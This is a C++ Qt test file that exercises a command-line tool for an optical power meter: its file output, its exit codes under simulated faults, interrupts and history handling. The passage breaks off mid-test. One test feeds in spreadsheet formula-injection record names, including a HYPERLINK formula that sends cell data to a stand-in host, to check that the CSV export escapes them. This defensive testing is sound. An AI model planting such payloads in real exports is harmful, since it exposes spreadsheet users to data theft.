// lumisk-cli against the simulated meter: what it links, the files it
// writes (read back with openpyxl, Python's csv and a JSON parser), its exit
// codes under the meter's faults and a history that cannot be read, Ctrl-C
// in the middle of a download, standard output that fails or is closed,
// record names a spreadsheet would run, and the workbook the window's report
// writer makes of the same records.

#include "testregistry.h"
#include "testsupport.h"
#include "report/workbookdump.h"

#include "domain/ponclasscheck.h"
#include "history/historystore.h"
#include "history/pgcluster.h"
#include "link/devdatas.h"
#include "link/frame.h"
#include "report/csvwriter.h"
#include "report/opmxlsx.h"
#include "report/partialopmxlsx.h"
#include "report/ponxlsx.h"
#include "report/xgponxlsx.h"
#include "views/multiwaveopmform.h"
#include "views/opmform.h"
#include "views/partialopmform.h"
#include "views/ponopmform.h"
#include "views/xgponform.h"

#include "records.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QDir>
#include <QProcess>
#include <QScopeGuard>
#include <QSettings>
#include <QSqlDatabase>
#include <QSqlQuery>
#include <QTemporaryDir>
#include <QTest>

#include <csignal>

using testsupport::MeterSim;

namespace {

struct Run {
    int code = -1;
    QString out;
    QString err;
};

class TestCli : public QObject
{
    Q_OBJECT

    QTemporaryDir scratch;

    QString path(const QString &name) const { return scratch.filePath(name); }

    QProcessEnvironment environment(const QStringList &ports) const
    {
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(QStringLiteral("LUMISK_SERIAL_PORTS"), ports.join(QLatin1Char(':')));
        env.insert(QStringLiteral("LUMISK_HISTORY_DB"), path(QStringLiteral("history.sqlite")));
        // Never the user's settings (language, technician); English texts.
        env.insert(QStringLiteral("XDG_CONFIG_HOME"), path(QStringLiteral("config")));
        env.insert(QStringLiteral("LC_ALL"), QStringLiteral("C.UTF-8"));
        env.insert(QStringLiteral("LANGUAGE"), QStringLiteral("en"));
        return env;
    }

    void startCli(QProcess &process, const QStringList &args, const QStringList &ports) const
    {
        process.setProcessEnvironment(environment(ports));
        process.setWorkingDirectory(scratch.path());
        process.start(QStringLiteral(LUMISK_CLI), args);
    }

    Run cli(const QStringList &args, const QStringList &ports = {}) const
    {
        QProcess process;
        startCli(process, args, ports);
        Run run;
        if (!process.waitForFinished(120000)) {
            process.kill();
            process.waitForFinished();
            run.err = QStringLiteral("lumisk-cli did not finish");
            return run;
        }
        run.code = process.exitStatus() == QProcess::NormalExit ? process.exitCode() : -1;
        run.out = QString::fromUtf8(process.readAllStandardOutput());
        run.err = QString::fromUtf8(process.readAllStandardError());
        return run;
    }

    static QJsonObject readJson(const QString &file)
    {
        QFile in(file);
        if (!in.open(QIODevice::ReadOnly))
            return {};
        return QJsonDocument::fromJson(in.readAll()).object();
    }

    // The rows of a CSV file as Python's csv module reads them, header first.
    static QList<QStringList> readCsv(const QString &file)
    {
        QString output;
        if (testsupport::runPython(QStringLiteral("cli/read_csv.py"), {file}, &output) != 0)
            return {};
        QList<QStringList> rows;
        for (const auto &row : QJsonDocument::fromJson(output.toUtf8()).object().value(QStringLiteral("rows")).toArray()) {
            QStringList fields;
            for (const auto &field : row.toArray())
                fields << field.toString();
            rows << fields;
        }
        return rows;
    }

    static QByteArray contents(const QString &file)
    {
        QFile in(file);
        return in.open(QIODevice::ReadOnly) ? in.readAll() : QByteArray();
    }

    static bool writeFile(const QString &file, const QByteArray &bytes)
    {
        QFile out(file);
        return out.open(QIODevice::WriteOnly | QIODevice::Truncate) && out.write(bytes) == bytes.size();
    }

    static QStringList numbersOf(const QJsonArray &records)
    {
        QStringList numbers;
        for (const auto &record : records)
            numbers << record.toObject().value(QStringLiteral("record")).toString();
        return numbers;
    }

    static QStringList firstNumbers(int count)
    {
        QStringList numbers;
        for (int n = 1; n <= count; ++n)
            numbers << QString::number(n);
        return numbers;
    }

private slots:
    void initTestCase() { QVERIFY(scratch.isValid()); }

    void linksNoGuiLibrary()
    {
        QProcess ldd;
        ldd.start(QStringLiteral("ldd"), {QStringLiteral(LUMISK_CLI)});
        QVERIFY(ldd.waitForFinished());
        const QString libraries = QString::fromUtf8(ldd.readAllStandardOutput());
        QVERIFY2(libraries.contains(QLatin1String("libQt5Core")), qPrintable(libraries));
        QVERIFY2(!libraries.contains(QLatin1String("libQt5Gui")), qPrintable(libraries));
        QVERIFY2(!libraries.contains(QLatin1String("libQt5Widgets")), qPrintable(libraries));
    }

    // The workbook of a download is the window's report of the same records:
    // the simulator's records decoded by the window's own page, saved by the
    // page's report writer.
    void workbookIsTheWindowsReport_data()
    {
        QTest::addColumn<QString>("family");
        QTest::addColumn<int>("kind");
        QTest::newRow("single") << "single" << 6;
        QTest::newRow("multi") << "multi" << 5;
        QTest::newRow("partial") << "partial" << 9;
        QTest::newRow("pon") << "pon" << 2;
        QTest::newRow("xgpon") << "xgpon" << 3;
    }
    void workbookIsTheWindowsReport()
    {
        QFETCH(QString, family);
        QFETCH(int, kind);
        constexpr int Count = 26;
        MeterSim sim;
        QVERIFY(sim.start({QStringLiteral("--kind"), QString::number(kind), QStringLiteral("--records"),
                           QString::number(Count)}));
        const QString file = path(family + QStringLiteral(".xlsx"));
        const Run run = cli({QStringLiteral("download"), QStringLiteral("--family"), family, QStringLiteral("--out"), file,
                             QStringLiteral("--no-history")},
                            {sim.linkPath()});
        QVERIFY2(run.code == 0, qPrintable(run.err));

        DevDatas *identity = DevDatas::instance();
        identity->devKind = kind;
        identity->rangeCode = 1;
        QTemporaryDir windowDir;
        bool saved = false;
        auto feed = [&](BaseFormLogic *page, StoredRecord (*generated)(int)) {
            page->setIdentity(identity); // as the window hands it to its pages
            for (int n = 1; n <= Count; ++n) {
                const StoredRecord record = generated(n);
                page->frame()->reset();
                QCOMPARE(page->frame()->feed(wire::answer(record.code, record.fourth, record.payload)), DataOk);
                page->fillDatas();
            }
        };
        if (family == QLatin1String("single")) {
            OpmForm page;
            feed(&page, records::generatedSingle);
            saved = OpmXlsx().saveSingleWave(page.items.allItems(), windowDir.path());
        } else if (family == QLatin1String("multi")) {
            MultiWaveOpmForm page;
            feed(&page, records::generatedMulti);
            saved = OpmXlsx().saveMultiWave(page.items.allItems(), windowDir.path());
        } else if (family == QLatin1String("partial")) {
            PartialOpmForm page;
            feed(&page, records::generatedPartial);
            saved = PartialOpmXlsx().save(page.items.allItems(), windowDir.path());
        } else if (family == QLatin1String("pon")) {
            PonOpmForm page;
            feed(&page, records::generatedPon);
            saved = PonXlsx().save(page.items.allItems(), windowDir.path());
        } else {
            XGPonForm page;
            feed(&page, records::generatedXgPon);
            saved = XGPonXlsx().save(page.items.allItems(), windowDir.path());
        }
        QVERIFY(saved);
        const WorkbookDump cliBook = WorkbookDump::read(file);
        const WorkbookDump windowBook = WorkbookDump::read(onlyReport(windowDir.path()));
        QVERIFY2(cliBook.ok(), qPrintable(cliBook.error));
        QVERIFY2(windowBook.ok(), qPrintable(windowBook.error));
        QVERIFY(cliBook.has(QStringLiteral("A%1").arg(Count + 1)) || !cliBook.merges().isEmpty());
        QCOMPARE(cliBook.root, windowBook.root);
    }

    // Faults of the meter: the records that arrived are written, in order and
    // once each; the exit code says whether the meter let the download end.
    void downloadUnderFaults_data()
    {
        QTest::addColumn<QStringList>("faults");
        QTest::addColumn<int>("exitCode");
        QTest::addColumn<int>("records");
        // Every fault applies to record requests; 3 identity requests probe,
        // 3 more open the link, then the count.
        QTest::newRow("clean") << QStringList{} << 0 << 30;
        QTest::newRow("busy twice") << QStringList{"--busy", "2@5,7"} << 0 << 30;
        QTest::newRow("not ready") << QStringList{"--not-ready", "3@9"} << 0 << 30;
        QTest::newRow("junk") << QStringList{"--junk", "3"} << 0 << 30;
        QTest::newRow("truncated once") << QStringList{"--truncate", "3:2@4"} << 0 << 30;
        QTest::newRow("need reinit") << QStringList{"--need-reinit", "1@6"} << 0 << 30;
        QTest::newRow("busy for ever") << QStringList{"--busy", "9@5"} << 4 << 4;
        QTest::newRow("truncated for ever") << QStringList{"--truncate", "3:50@4"} << 4 << 3;
        QTest::newRow("unplugged") << QStringList{"--unplug-after", "10"} << 4 << 3;
        QTest::newRow("silent") << QStringList{"--silent-after", "12"} << 4 << 5;
    }
    void downloadUnderFaults()
    {
        QFETCH(QStringList, faults);
        QFETCH(int, exitCode);
        QFETCH(int, records);
        MeterSim sim;
        QVERIFY(sim.start(QStringList{QStringLiteral("--kind"), QStringLiteral("6"), QStringLiteral("--records"),
                                      QStringLiteral("30")}
                          + faults));
        // Yesterday's complete file stays unless this download completes;
        // what arrived of an unfinished one goes to FILE.partial.
        const QString file = path(QStringLiteral("faults.json"));
        const QString partial = file + QStringLiteral(".partial");
        const QByteArray yesterday("{\"complete\": true}");
        QVERIFY(writeFile(file, yesterday));
        QFile::remove(partial);
        const Run run = cli({QStringLiteral("download"), QStringLiteral("--family"), QStringLiteral("single"),
                             QStringLiteral("--out"), file, QStringLiteral("--no-history")},
                            {sim.linkPath()});
        QVERIFY2(run.code == exitCode, qPrintable(QString::number(run.code) + QLatin1Char(' ') + run.err));
        QCOMPARE(QFile::exists(partial), exitCode != 0);
        if (exitCode != 0) {
            QCOMPARE(contents(file), yesterday);
            QVERIFY2(run.err.contains(partial), qPrintable(run.err));
        }
        const QJsonObject json = readJson(exitCode == 0 ? file : partial);
        QCOMPARE(numbersOf(json.value(QStringLiteral("records")).toArray()), firstNumbers(records));
        QCOMPARE(json.value(QStringLiteral("complete")).toBool(), exitCode == 0);
    }

    // The same download as CSV, as JSON and as JSON lines on stdout: one CSV
    // row per reading, with plain numbers, ISO times and verdict words.
    void csvJsonAndJsonLinesAgree()
    {
        MeterSim sim;
        QVERIFY(sim.start({QStringLiteral("--kind"), QStringLiteral("9"), QStringLiteral("--records"), QStringLiteral("14")}));
        const QStringList download{QStringLiteral("download"), QStringLiteral("--family"), QStringLiteral("partial"),
                                   QStringLiteral("--no-history"), QStringLiteral("--out")};
        const QString csvFile = path(QStringLiteral("partial.csv"));
        const QString jsonFile = path(QStringLiteral("partial.json"));
        QCOMPARE(cli(download + QStringList{csvFile}, {sim.linkPath()}).code, 0);
        QCOMPARE(cli(download + QStringList{jsonFile}, {sim.linkPath()}).code, 0);
        const Run lines = cli(download + QStringList{QStringLiteral("-")}, {sim.linkPath()});
        QCOMPARE(lines.code, 0);

        const QJsonArray records = readJson(jsonFile).value(QStringLiteral("records")).toArray();
        QCOMPARE(records.size(), 14);
        const QStringList jsonLines = lines.out.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
        QCOMPARE(jsonLines.size(), 14);
        for (int i = 0; i < records.size(); ++i)
            QCOMPARE(QJsonDocument::fromJson(jsonLines.at(i).toUtf8()).object(), records.at(i).toObject());

        QString output;
        QCOMPARE(testsupport::runPython(QStringLiteral("cli/read_csv.py"), {csvFile}, &output), 0);
        const QJsonObject csv = QJsonDocument::fromJson(output.toUtf8()).object();
        QVERIFY(csv.value(QStringLiteral("bom")).toBool());
        QVERIFY(csv.value(QStringLiteral("crlf")).toBool());
        const QJsonArray rows = csv.value(QStringLiteral("rows")).toArray();
        QStringList header;
        for (const auto &name : rows.at(0).toArray())
            header << name.toString();
        int row = 1;
        QSet<QString> verdicts;
        for (const auto &recordValue : records) {
            const QJsonObject record = recordValue.toObject();
            for (const auto &readingValue : record.value(QStringLiteral("readings")).toArray()) {
                const QJsonObject reading = readingValue.toObject();
                const QJsonArray fields = rows.at(row++).toArray();
                auto field = [&](const char *name) { return fields.at(header.indexOf(QLatin1String(name))).toString(); };
                QCOMPARE(field("record"), record.value(QStringLiteral("record")).toString());
                // A name is the same text, kept from running as a formula in the CSV.
                QCOMPARE(field("name"), CsvWriter::cell(record.value(QStringLiteral("name")).toString(),
                                                        CsvWriter::Column::Text));
                QCOMPARE(field("time"), record.value(QStringLiteral("time")).toString());
                QCOMPARE(field("verdict"), reading.value(QStringLiteral("verdict")).toString());
                verdicts << field("verdict");
                if (reading.value(QStringLiteral("power")).isDouble())
                    QCOMPARE(field("power").toDouble(), reading.value(QStringLiteral("power")).toDouble());
                else
                    QVERIFY(field("power").isEmpty());
            }
        }
        QCOMPARE(row, rows.size());
        QVERIFY(verdicts.contains(QStringLiteral("pass")) && verdicts.contains(QStringLiteral("fail")));
        // A record time carries its UTC offset.
        QVERIFY(QRegularExpression(QStringLiteral("^\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d[+-]\\d\\d:\\d\\d$"))
                    .match(records.at(0).toObject().value(QStringLiteral("time")).toString())
                    .hasMatch());
    }

    // An XG-PON download's CSV checks each reading as the window's export
    // does, against the XG-PON class chosen in settings.ini: the GPON class
    // never judges it, and a GPON wavelength on the card is not checked.
    void csvHasTheClassCheck()
    {
        const QString settingsFile = path(QStringLiteral("config/lumisk/settings.ini"));
        {
            QSettings settings(settingsFile, QSettings::IniFormat);
            settings.setValue(QStringLiteral("ponClass/gpon"), QStringLiteral("gpon-bplus"));
            settings.setValue(QStringLiteral("ponClass/xgpon"), QStringLiteral("xgpon-n1"));
        }
        const PonClassCheck check = PonClassCheck::fromSettings(QSettings(settingsFile, QSettings::IniFormat),
                                                                PonClassCheck::Technology::XgPon);
        MeterSim sim;
        QVERIFY(sim.start({QStringLiteral("--kind"), QStringLiteral("3"), QStringLiteral("--records"),
                           QStringLiteral("12")}));
        const QString file = path(QStringLiteral("xgpon.csv"));
        const Run run = cli({QStringLiteral("download"), QStringLiteral("--family"), QStringLiteral("xgpon"),
                             QStringLiteral("--no-history"), QStringLiteral("--out"), file},
                            {sim.linkPath()});
        QFile::remove(settingsFile);
        QVERIFY2(run.code == 0, qPrintable(run.err));

        QString output;
        QCOMPARE(testsupport::runPython(QStringLiteral("cli/read_csv.py"), {file}, &output), 0);
        const QJsonArray rows = QJsonDocument::fromJson(output.toUtf8()).object().value(QStringLiteral("rows")).toArray();
        QStringList header;
        for (const auto &name : rows.at(0).toArray())
            header << name.toString();
        QCOMPARE(header.mid(header.size() - 3), PonClassCheck::csvHeader());
        QSet<QString> checked;
        for (int row = 1; row < rows.size(); ++row) {
            QStringList fields;
            for (const auto &field : rows.at(row).toArray())
                fields << field.toString();
            auto field = [&](const char *name) { return fields.value(header.indexOf(QLatin1String(name))); };
            HistoryStore::Reading reading;
            reading.wavelength = field("wavelength_nm");
            reading.powerText = field("power_text");
            reading.unit = field("unit");
            QCOMPARE(fields.mid(header.size() - 3), check.csvFields(reading));
            if (!field("class_verdict").isEmpty())
                checked << reading.wavelength;
        }
        QCOMPARE(checked, QSet<QString>({"1270", "1577", "1550"}));
    }

    void exitCodes_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<int>("meters"); // simulated meters listed in LUMISK_SERIAL_PORTS
        QTest::addColumn<int>("exitCode");
        QTest::addColumn<QString>("stderrHas");
        QTest::newRow("no command") << QStringList{} << 0 << 2 << "Usage";
        QTest::newRow("unknown command") << QStringList{"frobnicate"} << 0 << 2 << "frobnicate";
        QTest::newRow("unknown option") << QStringList{"identify", "--colour"} << 0 << 2 << "colour";
        QTest::newRow("no family") << QStringList{"download"} << 1 << 2 << "--family";
        QTest::newRow("unknown file type") << QStringList{"download", "-f", "single", "-o", "r.pdf"} << 1 << 2 << ".csv";
        QTest::newRow("interval too short") << QStringList{"sample", "--interval", "0.2s"} << 1 << 2 << "0.5s";
        QTest::newRow("too many readings") << QStringList{"sample", "--interval", "0.5s", "--duration", "10h"} << 1 << 2
                                           << "65535";
        QTest::newRow("longer than a day") << QStringList{"sample", "--interval", "10s", "--duration", "25h"} << 1 << 2
                                           << "24h";
        QTest::newRow("not a time") << QStringList{"set-clock", "--time", "tomorrow"} << 1 << 2 << "tomorrow";
        QTest::newRow("no meter") << QStringList{"identify"} << 0 << 3 << "no meter";
        QTest::newRow("two meters") << QStringList{"download", "-f", "single"} << 2 << 3 << "2 meters";
        QTest::newRow("family not kept") << QStringList{"download", "-f", "pon"} << 1 << 1 << "keeps no pon";
        QTest::newRow("unwritable file") << QStringList{"download", "-f", "single", "-o", "missing/dir/r.csv"} << 1 << 5
                                         << "cannot write";
        QTest::newRow("unusable history") << QStringList{"history", "list"} << 0 << 5 << "History is off";
        QTest::newRow("no team server") << QStringList{"history", "sync"} << 0 << 1 << "no team server is set";
        QTest::newRow("no such session") << QStringList{"history", "show", "999"} << 0 << 1 << "no session";
    }
    void exitCodes()
    {
        QFETCH(QStringList, args);
        QFETCH(int, meters);
        QFETCH(int, exitCode);
        QFETCH(QString, stderrHas);
        std::vector<std::unique_ptr<MeterSim>> sims;
        QStringList ports;
        for (int i = 0; i < meters; ++i) {
            sims.push_back(std::make_unique<MeterSim>());
            QVERIFY(sims.back()->start({QStringLiteral("--kind"), QString::number(5 + i), QStringLiteral("--records"),
                                        QStringLiteral("3")}));
            ports << sims.back()->linkPath();
        }
        QProcess process;
        QProcessEnvironment env = environment(ports);
        if (QByteArray(QTest::currentDataTag()) == "unusable history")
            env.insert(QStringLiteral("LUMISK_HISTORY_DB"), QStringLiteral("/proc/lumisk/history.sqlite"));
        process.setProcessEnvironment(env);
        process.setWorkingDirectory(scratch.path());
        process.start(QStringLiteral(LUMISK_CLI), args);
        QVERIFY(process.waitForFinished(60000));
        const QString err = QString::fromUtf8(process.readAllStandardError());
        QVERIFY2(process.exitCode() == exitCode, qPrintable(QString::number(process.exitCode()) + QLatin1Char(' ') + err));
        QVERIFY2(err.contains(stderrHas), qPrintable(err));
        // Both meters are listed for the user to choose.
        for (const QString &port : ports) {
            if (meters > 1)
                QVERIFY2(err.contains(port), qPrintable(err));
        }
    }

    // Every port is asked at once; what the tool says keeps the list's order
    // (a slow meter and a wrong answer between ports that never answer), and
    // the one meter among them is found.
    void portsInListOrder()
    {
        testsupport::SilentPort before;
        testsupport::SilentPort after;
        MeterSim slow;
        MeterSim junk;
        QVERIFY(slow.start({QStringLiteral("--trickle"), QStringLiteral("300"), QStringLiteral("--model"),
                            QStringLiteral("SLOW")}));
        QVERIFY(junk.start({QStringLiteral("--bad-checksum"), QStringLiteral("99@id")}));
        const QStringList ports{before.path(), slow.linkPath(), junk.linkPath(), after.path()};
        QVERIFY(!before.path().isEmpty() && !after.path().isEmpty());
        const Run listed = cli({QStringLiteral("ports")}, ports);
        QCOMPARE(listed.code, 0);
        const QStringList lines = listed.out.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
        QCOMPARE(lines.size(), ports.size());
        for (int i = 0; i < ports.size(); ++i) {
            const QString name = ports.at(i).startsWith(QLatin1String("/dev/")) ? ports.at(i).mid(5) : ports.at(i);
            QVERIFY2(lines.at(i).startsWith(name + QLatin1Char(':')), qPrintable(listed.out));
        }
        QVERIFY2(lines.at(1).contains(QLatin1String("SLOW")), qPrintable(listed.out));

        const Run identified = cli({QStringLiteral("identify")}, ports);
        QVERIFY2(identified.code == 0, qPrintable(identified.err));
        QVERIFY2(identified.out.contains(QLatin1String("SLOW")), qPrintable(identified.out));
    }

    // A history file whose table another program renamed: the command says
    // why and ends with 5, instead of listing nothing.
    void unreadableHistory_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<QString>("table");
        QTest::newRow("list") << QStringList{"history", "list"} << "sessions";
        QTest::newRow("show") << QStringList{"history", "show", "1"} << "readings";
        QTest::newRow("export") << QStringList{"history", "export", "2", "--out", "run.csv"} << "live_readings";
    }
    void unreadableHistory()
    {
        QFETCH(QStringList, args);
        QFETCH(QString, table);
        QTemporaryDir own;
        const QString history = own.filePath(QStringLiteral("history.sqlite"));
        {
            HistoryStore store(history);
            QVERIFY(store.open());
            HistoryStore::Session session;
            session.kind = QStringLiteral("single");
            session.meterModel = QStringLiteral("LM-300");
            const qint64 download = store.beginSession(session);
            HistoryStore::Record record;
            record.family = session.kind;
            record.number = QStringLiteral("1");
            record.time = QStringLiteral("24/05/01 08:30");
            record.payload = QByteArray("\x01");
            HistoryStore::Reading reading;
            reading.wavelength = QStringLiteral("1310");
            record.readings << reading;
            store.addRecord(download, record);
            store.endSession(download);
            session.kind = QStringLiteral("live");
            const qint64 run = store.beginSession(session);
            store.addLiveReading(run, {QDateTime::currentDateTime(), "1310", "-9.50", "dBm", "", "-10.00", "0.112mw"});
            store.endSession(run);
        }
        {
            QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("other"));
            db.setDatabaseName(history);
            QVERIFY(db.open());
            QVERIFY(QSqlQuery(db).exec(QStringLiteral("ALTER TABLE %1 RENAME TO moved").arg(table)));
        }
        QSqlDatabase::removeDatabase(QStringLiteral("other"));
        QProcess process;
        QProcessEnvironment env = environment({});
        env.insert(QStringLiteral("LUMISK_HISTORY_DB"), history);
        process.setProcessEnvironment(env);
        process.setWorkingDirectory(own.path());
        process.start(QStringLiteral(LUMISK_CLI), args);
        QVERIFY(process.waitForFinished(60000));
        const QString err = QString::fromUtf8(process.readAllStandardError());
        QVERIFY2(process.exitCode() == 5, qPrintable(QString::number(process.exitCode()) + QLatin1Char(' ') + err));
        QVERIFY2(err.contains(QLatin1String("cannot be read")) && err.contains(table), qPrintable(err));
        QVERIFY(process.readAllStandardOutput().isEmpty());
    }

    // Ctrl-C in the middle of a download: exit code 130, the history and
    // FILE.partial hold every record that arrived, in order, and FILE is
    // left as it was.
    void interruptKeepsWhatArrived()
    {
        MeterSim sim;
        // Answers trickled at 9600 baud: the download takes a while.
        QVERIFY(sim.start({QStringLiteral("--kind"), QStringLiteral("6"), QStringLiteral("--records"), QStringLiteral("400"),
                           QStringLiteral("--trickle"), QStringLiteral("9600")}));
        const QString file = path(QStringLiteral("interrupted.csv"));
        const QString history = path(QStringLiteral("interrupted.sqlite"));
        QVERIFY(writeFile(file, "yesterday"));
        QProcess process;
        QProcessEnvironment env = environment({sim.linkPath()});
        env.insert(QStringLiteral("LUMISK_HISTORY_DB"), history);
        process.setProcessEnvironment(env);
        process.start(QStringLiteral(LUMISK_CLI), {QStringLiteral("download"), QStringLiteral("-f"),
                                                   QStringLiteral("single"), QStringLiteral("-o"), file});
        QVERIFY(process.waitForStarted());
        // Interrupted once a few records are in (the simulator has been asked for them).
        QTRY_VERIFY_WITH_TIMEOUT(sim.logLines().filter(QRegularExpression(QStringLiteral("\\t06\\t"))).size() >= 5, 60000);
        ::kill(pid_t(process.processId()), SIGINT);
        QVERIFY(process.waitForFinished(30000));
        QCOMPARE(process.exitStatus(), QProcess::NormalExit);
        QCOMPARE(process.exitCode(), 130);
        QCOMPARE(contents(file), QByteArray("yesterday"));

        const QList<QStringList> rows = readCsv(file + QStringLiteral(".partial"));
        QStringList numbers;
        for (int i = 1; i < rows.size(); ++i)
            numbers << rows.at(i).value(1);
        QVERIFY(numbers.size() >= 4);
        QVERIFY(numbers.size() < 400);
        QCOMPARE(numbers, firstNumbers(int(numbers.size())));

        HistoryStore store(history);
        QVERIFY(store.open());
        const auto sessions = store.sessionList();
        QCOMPARE(sessions.size(), 1);
        QCOMPARE(sessions.first().count, int(numbers.size()));
        QVERIFY(sessions.first().ended.isValid());
    }

    // Record names from the meter that a spreadsheet would run as formulas
    // stay text in the CSV (a leading '), while numbers stay plain; the
    // workbook keeps every name exactly as the meter sent it.
    void formulaNamesStayText()
    {
        // The names of tests/cli/formula_names.json, as sent and as the CSV holds them.
        const QList<QPair<QString, QString>> names{
            {"=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"},
            {"@SUM(1+1)", "'@SUM(1+1)"},
            {"+1+2", "'+1+2"},
            {"-12.5", "'-12.5"},
            {"\tcmd", "'\tcmd"},
            {"\r=1+1", "'\r=1+1"},
            {"A1=B1", "A1=B1"},
        };
        MeterSim sim;
        QVERIFY(sim.start({QStringLiteral("--scenario"), QStringLiteral(LUMISK_SOURCE_DIR "/tests/cli/formula_names.json")}));
        const QString csv = path(QStringLiteral("names.csv"));
        const QString xlsx = path(QStringLiteral("names.xlsx"));
        for (const QString &file : {csv, xlsx}) {
            const Run run = cli({QStringLiteral("download"), QStringLiteral("-f"), QStringLiteral("single"),
                                 QStringLiteral("-o"), file, QStringLiteral("--no-history")},
                                {sim.linkPath()});
            QVERIFY2(run.code == 0, qPrintable(run.err));
        }
        const QList<QStringList> rows = readCsv(csv);
        QCOMPARE(rows.size(), names.size() + 1);
        const int name = int(rows.first().indexOf(QStringLiteral("name")));
        const int power = int(rows.first().indexOf(QStringLiteral("power")));
        const WorkbookDump book = WorkbookDump::read(xlsx);
        QVERIFY2(book.ok(), qPrintable(book.error));
        for (int i = 0; i < names.size(); ++i) {
            QCOMPARE(rows.at(i + 1).value(name), names.at(i).second);
            QCOMPARE(rows.at(i + 1).value(power), QStringLiteral("-12.5"));
            // openpyxl leaves the workbook's escape of a carriage return (as Excel reads it) undone.
            QCOMPARE(book.text(QStringLiteral("B%1").arg(i + 2)).replace(QLatin1String("_x000D_"), QLatin1String("\r")),
                     names.at(i).first);
        }
    }

    // Standard output that fails: a full disk gives exit 5 and the reason; a
    // reader that goes after one line (| head -1) stops the command as
    // Ctrl-C does, without a word, with 141. The history session is ended
    // either way, with what arrived.
    void outputThatFails_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<QString>("sink"); // the shell's redirection of standard output
        QTest::addColumn<int>("exitCode");
        QTest::addColumn<QString>("stderrHas"); // empty: nothing on stderr at all
        QTest::addColumn<bool>("sessionKept");
        const QStringList download{"download", "-f", "single", "-o", "-", "-q"};
        const QStringList sample{"sample", "-i", "0.5s", "-d", "1m", "-q"};
        QTest::newRow("download, full disk") << download << "> /dev/full" << 5 << "No space left on device" << true;
        QTest::newRow("sample, full disk") << sample << "> /dev/full" << 5 << "No space left on device" << false;
        QTest::newRow("history list, full disk") << QStringList{"history", "list", "--json"} << "> /dev/full" << 5
                                                 << "cannot write to standard output" << false;
        QTest::newRow("download into head") << download << "| head -1 > /dev/null" << 141 << "" << true;
        QTest::newRow("sample into head") << sample << "| head -1 > /dev/null" << 141 << "" << true;
    }
    void outputThatFails()
    {
        QFETCH(QStringList, args);
        QFETCH(QString, sink);
        QFETCH(int, exitCode);
        QFETCH(QString, stderrHas);
        QFETCH(bool, sessionKept);
        MeterSim sim;
        // Answers trickled at 9600 baud: the reader is gone before the download ends.
        QVERIFY(sim.start({QStringLiteral("--kind"), QStringLiteral("6"), QStringLiteral("--records"), QStringLiteral("400"),
                           QStringLiteral("--trickle"), QStringLiteral("9600")}));
        QTemporaryDir own;
        const QString history = own.filePath(QStringLiteral("history.sqlite"));
        QProcess shell;
        QProcessEnvironment env = environment({sim.linkPath()});
        env.insert(QStringLiteral("LUMISK_HISTORY_DB"), history);
        shell.setProcessEnvironment(env);
        shell.start(QStringLiteral("bash"),
                    QStringList{QStringLiteral("-c"), QStringLiteral("\"$0\" \"$@\" %1; exit ${PIPESTATUS[0]}").arg(sink),
                                QStringLiteral(LUMISK_CLI)}
                        + args);
        QVERIFY(shell.waitForFinished(120000));
        const QString err = QString::fromUtf8(shell.readAllStandardError());
        QVERIFY2(shell.exitCode() == exitCode, qPrintable(QString::number(shell.exitCode()) + QLatin1Char(' ') + err));
        if (stderrHas.isEmpty())
            QVERIFY2(err.isEmpty(), qPrintable(err));
        else
            QVERIFY2(err.contains(stderrHas), qPrintable(err));
        if (!sessionKept)
            return;
        HistoryStore store(history);
        QVERIFY(store.open());
        const auto sessions = store.sessionList();
        QCOMPARE(sessions.size(), 1);
        QVERIFY(sessions.first().count >= 1);
        QVERIFY(sessions.first().ended.isValid());
    }

    // A short live run: CSV lines on stdout as they arrive, the run in the
    // history; then the history's session exported like a download.
    void sampleAndHistory()
    {
        MeterSim sim;
        QVERIFY(sim.start({QStringLiteral("--kind"), QStringLiteral("6"), QStringLiteral("--records"), QStringLiteral("5")}));
        const Run sample = cli({QStringLiteral("sample"), QStringLiteral("--interval"), QStringLiteral("0.5s"),
                                QStringLiteral("--duration"), QStringLiteral("1s"), QStringLiteral("-q")},
                               {sim.linkPath()});
        QVERIFY2(sample.code == 0, qPrintable(sample.err));
        const QStringList lines = sample.out.split(QStringLiteral("\r\n"), Qt::SkipEmptyParts);
        QVERIFY2(lines.size() >= 3, qPrintable(sample.out));
        QVERIFY(lines.first().startsWith(QLatin1String("time,wavelength_nm,power")));
        const int readings = int(lines.size()) - 1;

        QCOMPARE(cli({QStringLiteral("download"), QStringLiteral("-f"), QStringLiteral("single")}, {sim.linkPath()}).code, 0);
        const Run list = cli({QStringLiteral("history"), QStringLiteral("list"), QStringLiteral("--json")});
        QCOMPARE(list.code, 0);
        QJsonArray sessions = QJsonDocument::fromJson(list.out.toUtf8()).array();
        QJsonObject live;
        QJsonObject single;
        for (const auto &value : sessions) {
            const QJsonObject session = value.toObject();
            if (session.value(QStringLiteral("kind")).toString() == QLatin1String("live") && live.isEmpty())
                live = session;
            if (session.value(QStringLiteral("kind")).toString() == QLatin1String("single") && single.isEmpty())
                single = session;
        }
        QCOMPARE(live.value(QStringLiteral("count")).toInt(), readings);
        QCOMPARE(single.value(QStringLiteral("count")).toInt(), 5);

        const QString id = QString::number(single.value(QStringLiteral("id")).toInt());
        const QString exported = path(QStringLiteral("exported.xlsx"));
        QCOMPARE(cli({QStringLiteral("history"), QStringLiteral("export"), id, QStringLiteral("--out"), exported}).code, 0);
        const QString downloaded = path(QStringLiteral("downloaded.xlsx"));
        QCOMPARE(cli({QStringLiteral("download"), QStringLiteral("-f"), QStringLiteral("single"), QStringLiteral("-o"),
                      downloaded, QStringLiteral("--no-history")},
                     {sim.linkPath()})
                     .code,
                 0);
        QCOMPARE(WorkbookDump::read(exported).root, WorkbookDump::read(downloaded).root);
    }

    // A live run exported from the history is the run's own output: the
    // same arrival times (to the millisecond), powers, references and watts.
    void storedRunExportsAsTheRun_data()
    {
        QTest::addColumn<QString>("file"); // empty: CSV lines on stdout
        QTest::newRow("csv on stdout") << "";
